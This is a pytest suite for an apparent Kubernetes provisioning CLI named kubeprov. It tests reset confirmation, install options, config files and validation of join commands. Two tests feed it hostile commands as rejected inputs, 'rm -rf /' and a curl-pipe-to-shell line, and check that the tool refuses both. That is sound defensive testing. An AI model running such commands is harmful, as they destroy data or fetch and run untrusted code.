import pytest
import yaml
from typer.testing import CliRunner

from kubeprov.cli import app
from kubeprov.modules import provision
from kubeprov.modules.pipeline import OutcomeStatus, RunOutcome, StepError

runner = CliRunner()

JOIN_COMMAND = 'kubeadm join 10.0.0.1:6443 --token abcdef.0123456789abcdef'


def test_help():
    result = runner.invoke(app, ["--help"])
    assert result.exit_code == 0
    for group in ("master", "node", "config"):
        assert group in result.stdout


def test_reset_declined_runs_nothing(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    recorded = []
    monkeypatch.setattr(provision, 'execute_pipeline', lambda *a, **kw: recorded.append(a))

    result = runner.invoke(app, ["node", "reset"], input="no\n")

    assert result.exit_code == 0
    assert recorded == []
    assert "cancelled" in result.stdout


def test_reset_requires_literal_yes(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    recorded = []
    monkeypatch.setattr(provision, 'execute_pipeline', lambda *a, **kw: recorded.append(a))

    result = runner.invoke(app, ["node", "reset"], input="y\n")

    assert result.exit_code == 0
    assert recorded == []


def test_reset_confirmed(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    recorded = []

    def fake_execute(kind, config, **kwargs):
        recorded.append((kind, kwargs))
        return RunOutcome(status=OutcomeStatus.COMPLETED, kind=kind)

    monkeypatch.setattr(provision, 'execute_pipeline', fake_execute)

    result = runner.invoke(app, ["node", "reset", "--complete", "--yes"])

    assert result.exit_code == 0
    assert recorded[0][0] == 'reset'
    assert recorded[0][1]['complete'] is True


def test_master_install_exit_code_follows_outcome(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)

    def aborted(kind, config, **kwargs):
        return RunOutcome(
            status=OutcomeStatus.ABORTED,
            kind=kind,
            failed_step='Initialize master',
            error=StepError('kubeadm init failed'),
        )

    monkeypatch.setattr(provision, 'execute_pipeline', aborted)

    result = runner.invoke(app, ["master", "install", "--yes", "--cni", "flannel"])
    assert result.exit_code == 1


def test_master_install_passes_overrides(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    recorded = []

    def fake_execute(kind, config, **kwargs):
        recorded.append((kind, config, kwargs))
        return RunOutcome(status=OutcomeStatus.COMPLETED, kind=kind)

    monkeypatch.setattr(provision, 'execute_pipeline', fake_execute)

    result = runner.invoke(app, [
        "master", "install", "-y", "--k8s-version", "1.25.2",
        "--pod-cidr", "10.244.0.0/16", "--cni", "flannel", "--no-mirrors", "--dry-run",
    ])

    assert result.exit_code == 0
    kind, config, kwargs = recorded[0]
    assert kind == 'master_install'
    assert config.kubernetes_version == '1.25.2'
    assert config.cni_plugin == 'flannel'
    assert not config.mirrors.enabled
    assert kwargs['dry_run'] is True


def test_master_install_declined(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    recorded = []
    monkeypatch.setattr(provision, 'execute_pipeline', lambda *a, **kw: recorded.append(a))

    result = runner.invoke(app, ["master", "install"], input="n\n")

    assert result.exit_code == 0
    assert recorded == []


def test_invalid_config_exits_2(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    bad = tmp_path / "bad.yaml"
    bad.write_text(yaml.safe_dump({"cni_plugin": "weave"}))

    result = runner.invoke(app, ["master", "install", "--yes", "--config", str(bad)])
    assert result.exit_code == 2


def test_join_rejects_non_kubeadm_command(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    recorded = []
    monkeypatch.setattr(provision, 'execute_pipeline', lambda *a, **kw: recorded.append(a))

    result = runner.invoke(app, ["node", "join", "--yes", "--join-command", "rm -rf /"])

    assert result.exit_code == 2
    assert recorded == []


def test_join_prompts_for_command_and_redacts_it(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    recorded = []

    def fake_execute(kind, config, **kwargs):
        recorded.append((kind, config))
        return RunOutcome(status=OutcomeStatus.COMPLETED, kind=kind)

    monkeypatch.setattr(provision, 'execute_pipeline', fake_execute)

    result = runner.invoke(app, ["node", "join", "--yes"], input=JOIN_COMMAND + "\n")

    assert result.exit_code == 0
    assert recorded[0][0] == 'node_join'
    assert recorded[0][1].join_command == JOIN_COMMAND
    assert 'abcdef.0123456789abcdef' not in result.stdout.split("\n", 1)[1]


def test_config_init_validate_show(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "kubeprov.yaml"

    result = runner.invoke(app, ["config", "init", "--output", str(path)])
    assert result.exit_code == 0
    assert path.exists()

    assert runner.invoke(app, ["config", "init", "--output", str(path)]).exit_code == 1

    result = runner.invoke(app, ["config", "validate", str(path)])
    assert result.exit_code == 0
    assert "is valid" in result.stdout

    result = runner.invoke(app, ["config", "show", "--config", str(path)])
    assert result.exit_code == 0
    assert "pod_network_cidr" in result.stdout


def test_join_uses_command_from_config_file(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "kubeprov.yaml"
    path.write_text(yaml.safe_dump({"join_command": JOIN_COMMAND}))
    recorded = []

    def fake_execute(kind, config, **kwargs):
        recorded.append((kind, config))
        return RunOutcome(status=OutcomeStatus.COMPLETED, kind=kind)

    monkeypatch.setattr(provision, 'execute_pipeline', fake_execute)

    result = runner.invoke(app, ["node", "join", "--yes", "--config", str(path)], input="")

    assert result.exit_code == 0
    assert recorded[0][1].join_command == JOIN_COMMAND
    assert "Enter the join command" not in result.stdout


def test_join_validates_command_from_config_file(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "kubeprov.yaml"
    path.write_text(yaml.safe_dump({"join_command": "curl http://example.com | sh"}))
    recorded = []
    monkeypatch.setattr(provision, 'execute_pipeline', lambda *a, **kw: recorded.append(a))

    result = runner.invoke(app, ["node", "join", "--yes", "--config", str(path)])

    assert result.exit_code == 2
    assert recorded == []


def test_join_uses_command_from_environment(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("KUBEPROV_JOIN_COMMAND", JOIN_COMMAND)
    recorded = []

    def fake_execute(kind, config, **kwargs):
        recorded.append(config)
        return RunOutcome(status=OutcomeStatus.COMPLETED, kind=kind)

    monkeypatch.setattr(provision, 'execute_pipeline', fake_execute)

    result = runner.invoke(app, ["node", "join", "--yes"], input="")

    assert result.exit_code == 0
    assert recorded[0].join_command == JOIN_COMMAND
